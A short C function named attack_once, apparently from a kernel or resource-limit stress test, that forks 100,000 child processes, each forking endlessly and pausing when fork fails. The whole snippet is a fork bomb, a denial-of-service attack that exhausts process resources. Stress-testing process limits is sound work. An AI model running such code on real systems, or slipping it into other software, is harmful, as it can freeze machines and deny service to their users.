// Forks without end.
static void attack_once() {
    for (int i = 0; i < 100000; i++) {
        if (sys(SYS_fork) == 0) {
            for (;;) {
                if (sys(SYS_fork) < 0) {
                    sys(SYS_pause);
                }
            }
        }
    }
}
